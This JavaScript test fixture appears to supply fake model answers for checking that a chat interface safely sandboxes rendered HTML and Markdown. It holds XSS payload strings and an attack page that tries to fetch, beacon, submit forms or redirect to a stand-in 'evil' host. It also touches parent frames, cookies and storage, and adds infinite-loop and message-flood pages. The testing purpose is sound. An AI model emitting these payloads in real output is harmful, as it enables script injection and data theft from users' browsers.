// What the model is made to say: each answer belongs to a word of the question.
'use strict';

const html = (lines) => ['```html', ...lines, '```'].join('\n');

// Strings that would be scripts, images, links or styles if anything parsed them as HTML.
const payloads = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"><a xlink:href="javascript:window.pwned = 4">x</a></svg>',
  '[link](javascript:window.pwned=5)', '[link](data:text/html,<script>window.pwned=6</script>)',
  '<iframe srcdoc="<script>parent.pwned = 7</script>"></iframe>',
  '![x](https://evil.example/x.png)', '[x](vbscript:y)', '<style>body{display:none}</style>',
  '`<script>window.pwned = 8</script>`', '**<b onclick=alert(1)>bold</b>**',
  '| <script>window.pwned = 9</script> | b |', '|---|---|', '| "><img src=x> | c |',
  '> <form action="https://evil.example"><input></form>', '- <object data="x"></object>',
  '<https://evil.example/?a="onmouseover="alert(1)>', 'http://evil.example/"onclick="alert(1)',
];

// Everything a page might try against who shows it. `evil` counts who asks it.
const attacks = (evil, own) => html([
  '<!doctype html><title>attack</title><form id="f" method="post"></form>',
  `<img src="${evil}/img"><img src="/ui/icon.svg"><link rel="stylesheet" href="/ui/style.css">`,
  `<script src="${evil}/script.js"></script><script src="/ui/app.js"></script>`,
  `<iframe src="${evil}/frame"></iframe><iframe src="${own}/"></iframe>`,
  `<link rel="prefetch" href="${evil}/prefetch"><video src="${evil}/video"></video>`,
  `<style>@import "${evil}/import"; @font-face { font-family: x; src: url(${evil}/font); }`,
  `body { font-family: x; background: url(${evil}/background); }</style>`,
  '<script>',
  'window.results = {};',
  'const attempts = {',
  `  fetchOwn: () => fetch('${own}/v1/models'),`,
  `  fetchEvil: () => fetch('${evil}/fetch', { mode: 'no-cors' }),`,
  '  request: () => new Promise((done, fail) => { const r = new XMLHttpRequest();',
  `    r.onload = done; r.onerror = () => fail('blocked'); r.open('GET', '${own}/health');`,
  '    r.send(); }),',
  '  socket: () => new Promise((done, fail) => { const s = new WebSocket(',
  `    '${own.replace('http', 'ws')}/v1/responses'); s.onopen = done;`,
  '    s.onerror = () => fail(1); }),',
  '  events: () => new Promise((done, fail) => { const s = new EventSource(',
  `    '${evil}/events'); s.onopen = done; s.onerror = () => fail(1); }),`,
  "  parentDocument: () => { parent.document.body.textContent = 'mine'; },",
  '  parentLocation: () => parent.location.href,',
  '  parentVariable: () => parent.pwned = 1,',
  '  frameElement: () => { if (!frameElement) throw 0; },',
  "  localStorage: () => localStorage.setItem('a', 'b'),",
  "  sessionStorage: () => sessionStorage.setItem('a', 'b'),",
  "  cookie: () => { document.cookie = 'a=b'; if (!document.cookie) throw 0; },",
  '  database: () => new Promise((done, fail) => { const r = indexedDB.open("x");',
  '    r.onsuccess = done; r.onerror = fail; }),',
  "  caches: () => caches.open('x'),",
  "  worker: () => new Promise((done, fail) => { const w = new Worker('/ui/app.js');",
  '    w.onerror = fail; setTimeout(done, 500); }),',
  "  serviceWorker: () => navigator.serviceWorker.register('/ui/app.js'),",
  "  popup: () => { if (!window.open('about:blank')) throw 0; },",
  "  evaluate: () => eval('1 + 1'),",
  `  form: () => { f.action = '${own}/v1/chat/completions'; f.submit(); throw 'no effect'; },`,
  `  formEvil: () => { f.action = '${evil}/form'; f.submit(); throw 'no effect'; },`,
  `  top: () => { top.location = '${evil}/top'; },`,
  `  parentAssign: () => { parent.location.assign('${evil}/parent'); },`,
  `  beacon: () => { navigator.sendBeacon('${evil}/beacon', 'x'); throw 'is not told'; },`,
  '};',
  'for (const [name, attempt] of Object.entries(attempts)) {',
  '  Promise.resolve().then(attempt).then(',
  "    () => { results[name] = 'DONE'; }, (e) => { results[name] = 'failed'; });",
  '}',
  'window.total = Object.keys(attempts).length;',
  '</script>',
]);

const leave = (evil) => html(['<p>bye</p>', `<script>location.href = '${evil}/leak?x';</script>`]);
const loop = html(['<p id="p">before</p>', '<script>while (true) {}</script>']);
const flood = html(['<script>',
  "for (;;) { parent.postMessage('x'.repeat(1000), '*'); console.log('y'); }", '</script>']);

// A game of catching stones with many levels: about `rows` * 37 tokens.
function game(rows) {
  const level = (i) => `  [${Array.from({ length: 18 }, (_, j) =>
    (i * 7 + j * j * 3 + i * j) % 10).join(',')}],`;
  return html([
    '<!doctype html>', '<meta charset="utf-8">', '<title>Stones</title>',
    '<style>',
    'body { margin: 0; background: #10151c; color: #e8e6e1; font: 16px system-ui, sans-serif;',
    '  text-align: center; }',
    'canvas { display: block; margin: 12px auto; background: #18202b; border-radius: 10px; }',
    '</style>',
    '<h1>Stones</h1>', '<p>Score <b id="score">0</b>, level <b id="level">1</b>: arrow keys</p>',
    '<canvas id="field" width="480" height="420" tabindex="0"></canvas>',
    '<script>', '// How the stones of each level fall: the column of each.', 'const levels = [',
    ...Array.from({ length: rows }, (_, i) => level(i)), '];', '</script>',
    '<script>',
    "const field = document.getElementById('field');",
    "const context = field.getContext('2d');",
    'const state = { x: 5, score: 0, level: 0, stone: 0, y: 0, moves: 0 };',
    "addEventListener('keydown', (event) => {",
    "  if (event.key === 'ArrowLeft') state.x = Math.max(0, state.x - 1);",
    "  else if (event.key === 'ArrowRight') state.x = Math.min(9, state.x + 1);",
    '  else return;', '  state.moves += 1;', '  event.preventDefault();', '});',
    'function draw() {',
    '  state.y += 4;',
    '  const column = levels[state.level][state.stone];',
    '  if (state.y > 380) {',
    '    if (column === state.x) state.score += 1;',
    '    state.y = 0;', '    state.stone = (state.stone + 1) % 18;',
    '    if (state.stone === 0) state.level = (state.level + 1) % levels.length;', '  }',
    '  context.clearRect(0, 0, 480, 420);', "  context.fillStyle = '#79b4dd';",
    '  context.fillRect(column * 48 + 10, state.y, 28, 28);',
    "  context.fillStyle = '#ff9a63';", '  context.fillRect(state.x * 48 + 2, 396, 44, 14);',
    "  document.getElementById('score').textContent = state.score;",
    "  document.getElementById('level').textContent = state.level + 1;",
    '  requestAnimationFrame(draw);', '}', 'draw();', 'window.game = state;', '</script>',
  ]);
}

const markdown = [
  '<think>First I think about **it**.</think># A title', '',
  'Some *emphasis*, **strong words**, `code`, ~~gone~~ and [a link](https://example.org/a_b).',
  'A second line with snake_case_words and 2 * 3 * 4.', '',
  '1. One', '2. Two', '   - nested', '   - again', '', '   ```js', '   const a = 1; // one',
  '   ```', '', '> A quote', '', '| Name | Value |', '|------|------:|', '| `x` | 1 |',
  '| y | a \\| b |', '',
  '```python', 'def f(x):', '    """A doc', '    string."""', '    return x + 1  # more', '```',
  '', '---', 'The end: https://example.org/page.',
].join('\n');

module.exports = { attacks, flood, game, html, leave, loop, markdown, payloads };
